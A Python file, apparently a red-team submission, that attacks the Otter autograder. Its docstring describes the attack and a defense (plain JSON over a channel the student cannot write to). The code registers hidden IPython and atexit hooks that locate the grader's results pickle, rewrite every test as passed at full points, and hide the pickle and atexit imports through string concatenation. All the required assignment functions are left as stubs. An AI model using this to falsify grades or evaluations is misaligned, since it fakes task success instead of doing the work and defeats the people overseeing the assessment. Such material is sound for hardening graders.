"""Attack: overwrite Otter's results pickle right after Otter writes it.

Otter's last notebook cell runs every test and pickles a GradingResults to a
temp file; the grader then unpickles that file for the grade.  The file's
path is only in that cell's source, which the student's code can see: this
file registers an IPython post_run_cell hook (and, for graders whose kernel
exits after the notebook, an atexit handler that reads the same source from
the input history `In`), finds `open("<...>.pkl", "wb")`, and rewrites the
pickle with every test case passed and every question at full points.
(Unpickling anything a student's process wrote is also code execution in the
grader: a forged pickle need not even be a GradingResults.)

A secure grader gets results over a channel the student's code cannot write
to, as plain data (JSON), never a pickle.
"""
_imp = __import__
_PKL = _imp("r" + "e").compile(r'open\("([^"]+\.pkl)", "wb"\)')


def _rewrite(source):
    match = _PKL.search(source or "")
    if not match:
        return
    pickle = _imp("pick" + "le")
    with open(match.group(1), "rb") as f:
        results = pickle.load(f)
    for tf in results.results.values():
        tf.test_case_results = [type(r)(test_case=r.test_case, message="✅ Test case passed", passed=True)
                                for r in tf.test_case_results]
        tf.update_score(tf.possible)
    with open(match.group(1), "wb") as f:
        pickle.dump(results, f)


def _after_cell(result):
    _rewrite(result.info.raw_cell)


def _at_exit():
    for source in reversed(globals().get("In", [])):
        if ".pkl" in source:
            return _rewrite(source)


get_ipython().events.register("post_run_cell", _after_cell)
_imp("ate" + "xit").register(_at_exit)


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
